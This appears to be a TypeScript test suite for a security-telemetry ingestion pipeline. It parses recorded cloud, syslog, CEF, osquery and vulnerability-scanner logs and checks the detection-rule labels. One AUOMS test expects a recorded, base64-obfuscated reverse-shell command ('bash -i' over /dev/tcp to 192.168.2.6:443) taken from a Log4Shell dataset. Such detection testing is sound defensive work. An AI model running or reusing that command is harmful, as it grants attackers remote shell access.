import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { sources } from '../../content/sources.generated';
import { decode } from '../../shared/core/ingest/decode';
import { defaultDecodeLimits } from '../../shared/core/ingest/decodedBody';
import { normalise, sortSources } from '../../shared/core/ingest/normalise';
import type { RecordContext } from '../../shared/core/ingest/source';
import { sshAttempts } from '../../shared/core/detect/ssh/sshAttempt';
import type { JsonObject } from '../../shared/model/json';
import type { TelemetryEvent } from '../../shared/model/telemetryEvent';

/** Recorded telemetry beside the checkout, which is no part of the project: without it these tests are skipped. */
const folder = join(__dirname, '../../../shared/telemetry');
const here = existsSync(folder);
if (!here) console.warn(`Recorded telemetry is not at ${folder}: its tests are skipped`);
const given = here ? describe : describe.skip;

const context: RecordContext = { enqueuedAt: '2026-11-21T12:00:00.000Z', resourceId: '', position: '0/7' };
const sorted = sortSources(sources);
const text = (name: string) => readFileSync(join(folder, name), 'utf8');
const list = (name: string) => (here ? readdirSync(join(folder, name)).map((each) => `${name}/${each}`) : []);

function read(body: string, limits = defaultDecodeLimits) {
  const { records, rejected } = decode(Buffer.from(body), limits);
  const read = normalise(records, context, sorted);
  return { records, events: read.events.map(({ event }) => event), rejected: [...rejected, ...read.rejected] };
}

/** file, source, records, events, rejected: what became of every file of these folders. */
const table: [string, string, number, number, number][] = [];
afterAll(() => {
  if (!here) return;
  const lines = table.map((row) => row.join(' | '));
  console.info(['file | source | records | events | rejected', ...lines.sort()].join('\n'));
});

const lists = (name: string, source: string): [string, string][] => list(name).map((each) => [each, source]);

const files: [string, string][] = [
  ...lists('aws/cloudtrail_invictus', 'cloudTrail'),
  ...lists('aws/cloudtrail_stratus', 'cloudTrail'),
  ['aws/cloudtrail_otrf_s3_exfil.ndjson', 'cloudTrail'],
  ['aws/cloudtrail_rules.ndjson', 'cloudTrail'],
  ['aws/asff_config_many.json', 'securityHubFinding'],
  ['aws/asff_guardduty.json', 'securityHubFinding'],
  ['aws/securityhub_asff.ndjson', 'securityHubFinding'],
  ['aws/guardduty.ndjson', 'guardDuty'],
  ['aws/vpcflow.ndjson', 'awsFlow'],
  ['aws/vpcdns.ndjson', 'awsFlow'],
  ['aws/s3_server_access.ndjson', 'awsFlow'],
  ['gcp/audit.ndjson', 'gcpAudit'],
  ...lists('gcp/scc', 'gcpFinding'),
  ['kubernetes/eks_audit.ndjson', 'kubernetesAudit'],
  ['falco/falcosidekick_eventhub.ndjson', 'falco'],
  ['ocsf/prowler_aws.ocsf.json', 'ocsf'],
  ['ocsf/prowler_azure.ocsf.json', 'ocsf'],
  ['osquery/differential.ndjson', 'osquery'],
  ['osquery/docs_event_snapshot_batch.ndjson', 'osquery'],
  ['syslog/rfc3164_rsyslog.log', 'syslog3164'],
  ['syslog/rfc5424_rsyslog.log', 'syslog5424'],
  ['syslog/rsyslog_json.ndjson', 'syslog5424'],
  ['cef/radiflow_isid.log', 'cef'],
  ['other/okta_systemlog.ndjson', 'okta'],
  ['linux/la_syslog_auoms_log4shell.ndjson', 'auoms'],
  ['vuln/aws_inspector2_many.json', 'inspector2'],
  ['vuln/trivy_operator_vulnreports.json', 'trivy'],
  ['vuln/trivy_scheme2_many.json', 'trivy'],
];

given('recorded files', () => {
  it.each(files)('%s is read by %s', (name, source) => {
    const { records, events, rejected } = read(text(name));
    table.push([name, source, records.length, events.length, rejected.length]);
    expect(rejected).toEqual([]);
    expect(records.length).toBeGreaterThan(0);
    expect(events.length).toBeGreaterThanOrEqual(records.length);
    expect([...new Set(events.map((event) => event.source))]).toEqual([source]);
  });

  // Reports of many lines: the hub's decoder would take their lines apart, so they come as one text.
  it.each<[string, string, number]>([
    ['vuln/nessus_many_vuln.nessus.xml', 'tenable', 7],
    ['vuln/tenable_many_vuln.csv', 'tenable', 20],
    ['vuln/qualys_sample_report.xml', 'qualys', 301],
    ['vuln/qualys_vmdr_many_cve.csv', 'qualys', 5],
  ])('%s as one text is read by %s', (name, source, expected) => {
    const { events, rejected } = read(JSON.stringify([text(name)]), {
      ...defaultDecodeLimits,
      maxRecordBytes: 2 ** 20,
    });
    table.push([`${name} (one text)`, source, 1, events.length, rejected.length]);
    expect(rejected).toEqual([]);
    expect([...new Set(events.map((event) => event.source))]).toEqual([source]);
    expect(events).toHaveLength(expected);
    for (const { fields, entities } of events) {
      expect((fields.vulnerability as JsonObject).title).toEqual(expect.stringMatching(/./));
      expect(entities.length).toBeGreaterThan(0);
    }
  });

  it('have events whose time is their own wherever the record has one', () => {
    const timeless = files
      .filter(([name]) =>
        /cloudtrail_(?:inv|str)|asff|guardduty|vpcdns|s3_server|ocsf|docs_event|syslog|cef|auoms/.test(name),
      )
      .flatMap(([name]) => read(text(name)).events.map(({ timeOrigin }) => `${name}: ${timeOrigin}`))
      .filter((origin) => origin.endsWith('enqueued'));
    expect(timeless).toEqual([]);
  });
});

interface Label {
  line: number;
  rule: string;
  expected: boolean;
  test: string;
}

const labelsOf = (name: string): Label[] =>
  text(`${name}.labels.ndjson`)
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Label);

/** Events of the file line by line, as its labels count. */
const eventsByLine = (name: string): TelemetryEvent[] =>
  text(`${name}.ndjson`)
    .trim()
    .split('\n')
    .map((line) => read(line).events[0]!);

const at = ({ fields }: TelemetryEvent, ...names: string[]): unknown =>
  names.reduce<unknown>((value, name) => (value as JsonObject | undefined)?.[name], fields);
const address = ({ entities }: TelemetryEvent, index: number): string =>
  entities.flatMap((entity) => (entity.type === 'ip' ? [entity.address] : []))[index] ?? '';
const account = ({ entities }: TelemetryEvent): string =>
  entities.flatMap((entity) => (entity.type === 'account' ? [entity.name] : []))[0] ?? '';
const succeeded = (event: TelemetryEvent, name: RegExp): boolean =>
  name.test(String(at(event, 'eventName'))) && at(event, 'errorCode') === undefined;
const isPrivate = (ip: string): boolean => /^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(ip);

/** Rules whose verdict follows from typed fields alone, in our own words: a wrong field would show as a wrong verdict. */
const verdicts: [string, string, (event: TelemetryEvent) => boolean][] = [
  ['aws/cloudtrail_rules', 'AWS.RDS.InstanceRebooted', (event) => succeeded(event, /^RebootDB(?:Instance|Cluster)$/)],
  ['aws/cloudtrail_rules', 'AWS.RDS.SnapshotDeleted', (event) => succeeded(event, /^DeleteDB(?:Cluster)?Snapshot$/)],
  [
    'aws/cloudtrail_rules',
    'AWS.S3.DeletePublicAccessBlock',
    (event) => succeeded(event, /^DeleteBucketPublicAccessBlock$/) && at(event, 'eventSource') === 's3.amazonaws.com',
  ],
  [
    'aws/vpcflow',
    'AWS.VPC.InboundPortWhitelist',
    (event) =>
      !isPrivate(address(event, 0)) &&
      isPrivate(address(event, 1)) &&
      ![80, 443].includes(Number(at(event, 'dst_port'))),
  ],
  [
    'kubernetes/eks_audit',
    'Kubernetes.Secret.AccessDenied',
    (event) =>
      at(event, 'verb') === 'get' &&
      at(event, 'objectRef', 'resource') === 'secrets' &&
      [403, 404].includes(Number(at(event, 'responseStatus', 'code'))) &&
      !account(event).startsWith('system:serviceaccount:kube-system:'),
  ],
  [
    'gcp/audit',
    'GCP.DNS.Zone.Modified.or.Deleted',
    (event) =>
      /^dns\.(?:managedZones\.(?:delete|patch)|changes\.create)$/.test(String(at(event, 'gcp.audit.method_name'))),
  ],
  [
    'other/okta_systemlog',
    'Okta.Login.Success',
    (event) => at(event, 'eventType') === 'user.session.start' && at(event, 'outcome', 'result') === 'SUCCESS',
  ],
  [
    'osquery/differential',
    'Osquery.Linux.AWSCommandExecuted',
    (event) => String(at(event, 'columns', 'command')).startsWith('aws ') && event.logSource.product !== 'macos',
  ],
];

given('labels', () => {
  const labelled = here
    ? ['aws', 'gcp', 'kubernetes', 'osquery', 'other'].flatMap((name) =>
        list(name)
          .filter((each) => each.endsWith('.labels.ndjson'))
          .map((each) => each.replace('.labels.ndjson', '')),
      )
    : [];

  it.each(labelled)('%s: each label has its event', (name) => {
    const events = eventsByLine(name);
    const labels = labelsOf(name);
    expect(labels.map(({ line }) => line)).toEqual(events.map((_, index) => index + 1));
    expect(events).not.toContain(undefined);
  });

  it.each(verdicts)('%s: %s', (name, rule, verdict) => {
    const events = eventsByLine(name);
    const labels = labelsOf(name).filter((label) => label.rule === rule);
    expect(labels.length).toBeGreaterThan(1);
    const judged = labels.map(({ line, test }) => [test, verdict(events[line - 1]!)]);
    expect(judged).toEqual(labels.map(({ test, expected }) => [test, expected]));
  });
});

given('what the files are known to hold', () => {
  const one = (name: string, index = 0) => read(text(name)).events[index]!;

  it('three dialects of syslog tell the same log-ins', () => {
    const told = ['rfc3164_rsyslog.log', 'rfc5424_rsyslog.log', 'rsyslog_json.ndjson'].map((name) =>
      read(text(`syslog/${name}`)).events.map(({ fields, entities, logSource }) => [
        fields.host,
        fields.program,
        (fields.message as string).trim(),
        entities,
        logSource.service,
      ]),
    );
    // 3164 as written by rsyslog has no facility: haproxy and systemd belong to `syslog` in all of them
    expect(told[0]).toEqual(told[1]);
    expect(told[2]).toEqual(told[1]);
  });

  it.each(['rfc3164_rsyslog.log', 'rfc5424_rsyslog.log', 'rsyslog_json.ndjson'])(
    'attempts to log in over SSH are told from syslog/%s',
    (name) => {
      const outcomes = read(text(`syslog/${name}`))
        .events.flatMap(sshAttempts)
        .map(({ outcome }) => outcome);
      expect(outcomes).toEqual([...Array<string>(8).fill('failure'), 'success']);
    },
  );

  it('CEF of a sensor keeps its values apart', () => {
    const { fields, time } = one('cef/radiflow_isid.log');
    expect(time).toMatch(/-05-18T16:02:00.000Z$/);
    expect(fields).toMatchObject({
      deviceVendor: 'radiflow',
      name: 'New Link Detected',
      severity: 'Medium',
      severityNumber: 6,
      cat: 'Link',
      DstName: '172.16.8.17',
      SrcMac: '00:30:DE:40:D0:8D',
      SrcVendor: 'WAGO Kontakttechnik GmbH',
      SrcVlan: '1',
    });
    expect(one('cef/radiflow_isid.log', 3).fields).toMatchObject({ SrcVendor: "Micro-Star INT'L CO., LTD." });
  });

  it('AUOMS rows give whole command lines', () => {
    const { events } = read(text('linux/la_syslog_auoms_log4shell.ndjson'));
    expect(events.map(({ fields }) => fields.CommandLine)).toContain(
      'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"',
    );
    expect(new Set(events.map(({ id }) => id)).size).toBe(events.length);
  });

  it('trails hold no event twice but what AWS itself wrote twice', () => {
    const events = list('aws/cloudtrail_invictus').flatMap((name) => read(text(name)).events);
    const eventIds = new Set(events.map(({ fields }) => fields.eventID));
    expect(new Set(events.map(({ id }) => id)).size).toBe(eventIds.size);
    expect(events.filter(({ entities }) => entities.some(({ type }) => type === 'account')).length).toBe(events.length);
  });

  it('Inspector and Trivy name package, version and fix', () => {
    expect(one('vuln/aws_inspector2_many.json').fields.vulnerability).toMatchObject({
      ids: ['CVE-2021-3744'],
      severity: 'Medium',
      package: 'linux',
      version: '4.19.118',
      fixedVersion: '0:4.19.232-1',
    });
    expect(one('vuln/trivy_scheme2_many.json').fields.vulnerability).toMatchObject({
      ids: ['CVE-2020-15999'],
      severity: 'Medium',
      package: 'freetype',
      version: '2.9.1-r2',
      fixedVersion: '2.9.1-r3',
    });
  });
});
